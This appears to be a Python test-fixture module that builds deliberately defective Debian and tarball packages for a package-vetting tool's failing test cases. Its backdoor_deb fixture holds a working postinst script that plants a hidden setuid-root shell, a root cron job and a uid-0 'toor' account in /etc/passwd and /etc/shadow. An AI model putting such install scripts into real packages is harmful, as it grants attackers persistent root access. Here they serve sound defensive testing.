"""Real packages with known defects, built on the spot for the suites' failing cases."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from examples.make import build_deb, build_tarball, compile_c

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"

MANIFEST = """schema = 1
[product]
name = "{name}"
version = "1.0"
vendor = "Test Vendor"
"""


def bad_deb(folder: Path) -> Path:
    """A .deb with a missing library, a build RUNPATH, a world-writable and a setuid file, and a
    postinst that leaves a file behind after purge."""
    build = folder / "build"
    build.mkdir(parents=True)
    (build / "stub.c").write_text("int acme_missing(void) { return 1; }\n")
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libacmemissing.so.1", "-o",
                    str(build / "libacmemissing.so"), str(build / "stub.c")], check=True)
    (build / "main.c").write_text("int acme_missing(void);\nint main(void) { return acme_missing() - 1; }\n")
    binary = compile_c(build / "main.c", build / "acme-bad",
                       ["-no-pie", "-fno-stack-protector", "-Wl,-z,norelro", f"-L{build}",
                        "-Wl,-rpath,/home/build/acme/lib", "-Wl,--no-as-needed", "-lacmemissing"])
    deb = build_deb(
        {"/usr/bin/acme-bad": binary, "/usr/share/acme-bad/data": b"shared state\n",
         "/usr/bin/acme-suid": b"#!/bin/sh\necho root\n"},
        {"Package": "acme-bad", "Version": "1.0", "Architecture": "amd64"}, folder,
        modes={"/usr/share/acme-bad/data": 0o666, "/usr/bin/acme-suid": 0o4755},
        scripts={"postinst": "#!/bin/sh\ntouch /etc/acme-bad.state\n"})
    (folder / "submission.toml").write_text(MANIFEST.format(name="acme-bad") + f'[[artifacts]]\npath = "{deb.name}"\n')
    return folder


def tarball(folder: Path, name: str, install_sh: str, service: str = "", limits: str = "") -> Path:
    """A tarball product around the acme-web binary, with the given install script and [service]."""
    binary = compile_c(EXAMPLES / "acme-web/src/acme-web.c", folder / "build/acme-web")
    art = build_tarball({"bin/acme-web": binary, "install.sh": install_sh.encode()}, folder / f"{name}.tar.gz")
    (folder / "submission.toml").write_text(
        MANIFEST.format(name=name)
        + f'[[artifacts]]\npath = "{art.name}"\nprefix = "/opt/{name}"\ninstall = "install.sh"\n'
        + service + limits)
    return folder


def service_table(command: str, ports: str = "[8080]", ready_timeout: int = 5) -> str:
    return (f'[service]\ncommand = "{command}"\nports = {ports}\nready_timeout = {ready_timeout}\n'
            'health = "/opt/svc/bin/acme-web --check --port 8080"\n')


def backdoor_deb(folder: Path) -> Path:
    """Issue 16 case 3: a .deb whose postinst plants a setuid-root shell and a mode-666 file under
    /etc, a cron job and a password-holding uid-0 account, starts a daemon, hides a "backdoor"
    in /var/lib/dpkg and 1 MiB in /var/tmp; its postrm removes the shell and the /etc file."""
    postinst = """#!/bin/sh
cp /bin/sh /usr/local/bin/.sh && chmod 4755 /usr/local/bin/.sh
touch /etc/acme-open && chmod 666 /etc/acme-open
echo '* * * * * root /usr/local/bin/.sh -c id' > /etc/cron.d/acme-sync
echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd
echo 'toor:$6$salt$abcdefghijklmnopqrstuv:19000:0:99999:7:::' >> /etc/shadow
echo planted > /var/lib/dpkg/backdoor
head -c 1048576 /dev/zero > /var/tmp/acme-cache
(setsid sleep 3000 >/dev/null 2>&1 &)
exit 0
"""
    postrm = "#!/bin/sh\nrm -f /usr/local/bin/.sh /etc/acme-open\nexit 0\n"
    deb = build_deb({"/usr/share/acme-door/README": b"nothing to see\n"},
                    {"Package": "acme-door", "Version": "1.0", "Architecture": "all"}, folder,
                    scripts={"postinst": postinst, "postrm": postrm})
    (folder / "submission.toml").write_text(MANIFEST.format(name="acme-door") + f'[[artifacts]]\npath = "{deb.name}"\n')
    return folder


def osv(folder: Path, rid: str, ecosystem: str, name: str, fixed: str, severity: str = "HIGH") -> Path:
    """An OSV record (the offline feed's format): ``name`` in ``ecosystem`` affected until ``fixed``."""
    path = folder / f"{rid}.json"
    path.write_text(json.dumps({
        "id": rid, "modified": "2026-11-01T00:00:00Z", "summary": f"a test record for {name}",
        "affected": [{"package": {"ecosystem": ecosystem, "name": name},
                      "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}]}],
        "database_specific": {"severity": severity}}))
    return path
